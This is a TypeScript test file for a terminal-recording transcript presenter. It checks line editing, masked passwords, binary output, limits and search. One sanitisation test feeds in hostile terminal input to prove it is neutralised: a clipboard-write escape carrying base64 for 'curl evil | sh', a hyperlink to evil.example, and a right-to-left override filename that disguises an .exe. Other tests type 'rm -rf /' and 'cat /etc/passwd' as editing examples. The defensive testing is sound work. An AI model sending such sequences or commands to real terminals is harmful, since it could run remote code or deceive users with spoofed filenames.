import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { AsciicastEncoder, asciicastEventLine, asciicastHeaderLine, type RecordingEvent } from '../../src/gateway/asciicast-encoder.js';
import { searchTranscript, transcriptOf, type TranscriptLine } from '../../src/presenters/transcript.js';

const START = Date.parse('2026-11-28T01:00:00.000Z');
const HEADER = asciicastHeaderLine({ width: 80, height: 24, timestamp: START / 1000, title: 'andi@spse', env: { TERM: 'xterm' }, jaga: {} });

/** A recording as the gateway writes it, from [ms after the start, 'o' | 'i', bytes] chunks. */
function recording(chunks: readonly (readonly [number, 'o' | 'i', string | Buffer])[]): string {
  const enc = new AsciicastEncoder(START);
  const events: (RecordingEvent | null)[] = chunks.map(([ms, type, data]) => {
    const b = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
    return type === 'o' ? enc.output(START + ms, b) : enc.input(START + ms, b);
  });
  events.push(...enc.end(START + 99_000));
  return HEADER + events.filter((e): e is RecordingEvent => e !== null).map(asciicastEventLine).join('');
}

const texts = (lines: readonly TranscriptLine[]): string[] => lines.map((l) => (l.kind === 'data' ? `[${l.direction} ${l.bytes}]` : `${l.kind === 'input' ? '> ' : ''}${l.text}`));

// eslint-disable-next-line no-control-regex -- the test looks for exactly these
const ACTIVE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('transcriptOf', () => {
  it('shows a shell session as its lines, the typed command after the prompt it was typed at, with times', () => {
    const t = transcriptOf(recording([
      [100, 'o', '\x1b]0;andi@spse: ~\x07\x1b[01;32mandi@spse\x1b[00m:~$ '],
      [1200, 'i', 's'], [1300, 'i', 'y'], [1400, 'i', 's'], [1500, 'i', 'x'], [1600, 'i', '\x7f'], [1700, 'i', 't'],
      [1800, 'i', 'emctl restart spse\r'],
      [1810, 'o', 'systemctl restart spse\r\n'],
      [2500, 'o', 'Job for spse.service failed.\r\n'],
    ]));
    assert.equal(t.startedAt, '2026-11-28T01:00:00.000Z');
    assert.deepEqual(texts(t.lines), ['andi@spse:~$ systemctl restart spse', '> systemctl restart spse', 'Job for spse.service failed.']);
    assert.deepEqual(t.lines.map((l) => l.at), [0.1, 1.2, 2.5]);
    assert.equal(t.truncated, false);
    assert.equal(t.unreadable, 0);
  });

  it('draws a line as a terminal would: CR returns, backspace and cursor moves overwrite, erase-in-line erases', () => {
    const t = transcriptOf(recording([
      [0, 'o', 'Downloading  10%\rDownloading  55%\rDownloading 100%\r\n'],
      [10, 'o', 'abc\b\bX\r\n'],
      [20, 'o', 'hello world\x1b[5D\x1b[Kthere\r\n'],
      [30, 'o', 'a\tb\r\n'],
      [40, 'o', 'old line\x1b[2K\rnew\r\n'],
    ]));
    assert.deepEqual(texts(t.lines), ['Downloading 100%', 'aXc', 'hello there', 'a       b', 'new']);
  });

  it('reads typed input with its editing keys: ^U clears, ^W deletes a word, ^C ends the line, arrows are not text', () => {
    const t = transcriptOf(recording([
      [0, 'i', 'rm -rf /\x15ls -l\r'],
      [10, 'i', 'cat /etc/hosts /etc/passwd\x17x\r'], [15, 'i', 'ls  /tmp /var\x17\x17\r'],
      [20, 'i', 'ping spse\x03'],
      [30, 'i', '\x1b[A\x1b[B\x1bOAuptime\r'],
      [40, 'i', 'cd /va\t\r'],
    ]));
    assert.deepEqual(texts(t.lines), ['> ls -l', '> cat /etc/hosts x', '> ls', '> ping spse^C', '> uptime', '> cd /va⇥']);
  });

  it('keeps masked input masked: what the recording shows at a password prompt is all the transcript knows', () => {
    const t = transcriptOf(recording([[0, 'o', '[sudo] password for andi: '], [500, 'i', '********\r'], [600, 'o', '\r\n']]));
    assert.deepEqual(texts(t.lines), ['[sudo] password for andi:', '> ********']);
  });

  it('never lets a control character or bidi override through: escape sequences are consumed, the rest made visible', () => {
    const hostile = [
      '\x1b[2J\x1b[H', '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07', '\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\', '\u009b31m', '\u009d0;t\u009c',
      'invoice\u202Efdp.exe', '\x1bPq#0;2;0;0;0\x1b\\', '\x07\x00\x7f', '\x1b(B\x1b=\x1b>',
    ].join('');
    const t = transcriptOf(recording([[0, 'o', `${hostile}\r\n`], [10, 'i', `${hostile}\r`]]));
    for (const l of t.lines) if (l.kind !== 'data') assert.doesNotMatch(l.text, ACTIVE, JSON.stringify(l.text));
    // (a DEL typed is a backspace: the input line loses its last character)
    assert.deepEqual(texts(t.lines), ['linkinvoice\\u202efdp.exe', '> linkinvoice\\u202efdp.ex']);
  });

  it('holds for any bytes: no control character in any line, and never more lines than the limit', () => {
    fc.assert(fc.property(fc.array(fc.tuple(fc.constantFrom<'o' | 'i'>('o', 'i'), fc.uint8Array({ maxLength: 300 })), { maxLength: 30 }), (chunks) => {
      const t = transcriptOf(recording(chunks.map(([type, b], i) => [i * 10, type, Buffer.from(b)] as const)), { maxLines: 20, maxLineLength: 64 });
      assert.ok(t.lines.length <= 20);
      for (const l of t.lines) if (l.kind !== 'data') { assert.doesNotMatch(l.text, ACTIVE); assert.ok(l.text.length <= 64 * 6); }
    }), { numRuns: 300 });
  });

  it('shows bulk binary data as its size, one line while it runs, not as noise', () => {
    const blob = Buffer.alloc(64 * 1024, 0xff);
    const t = transcriptOf(recording([[0, 'o', '$ '], [10, 'i', 'cat image.bin\r'], [20, 'o', blob], [30, 'o', blob], [40, 'o', '$ '], [50, 'i', 'exit\r']]));
    assert.deepEqual(texts(t.lines), ['$', '> cat image.bin', `[output ${2 * blob.length}]`, '$', '> exit']);
  });

  it('stops at its limits and says so; skips what is not an event and counts it', () => {
    const many = recording(Array.from({ length: 30 }, (_, i) => [i, 'o', `line ${i}\r\n`] as const));
    const t = transcriptOf(many, { maxLines: 10 });
    assert.equal(t.lines.length, 10);
    assert.equal(t.truncated, true);
    const long = transcriptOf(recording([[0, 'o', `${'x'.repeat(100)}\r\n`], [1, 'i', `${'y'.repeat(100)}\r`]]), { maxLineLength: 40 });
    assert.deepEqual(long.lines.map((l) => (l.kind === 'data' ? 0 : l.text.length)), [40, 40]);
    assert.equal(long.truncated, true);
    const damaged = transcriptOf(`${HEADER}not json\n{"a":1}\n[1,"x","?"]\n[0.5,"o","ok\\r\\n"]\n`);
    assert.deepEqual(texts(damaged.lines), ['ok']);
    assert.equal(damaged.unreadable, 3);
    assert.equal(transcriptOf('garbage').startedAt, null);
    assert.deepEqual(transcriptOf('').lines, []);
  });

  it('finds lines by text, case-insensitively, in input and output alike', () => {
    const t = transcriptOf(recording([[0, 'o', 'Restarting SPSE\r\n'], [10, 'i', 'systemctl status spse\r'], [20, 'o', 'active (running)\r\n']]));
    assert.deepEqual(searchTranscript(t, 'spse'), [0, 1]);
    assert.deepEqual(searchTranscript(t, '  RUNNING '), [2]);
    assert.deepEqual(searchTranscript(t, ' '), []);
  });
});
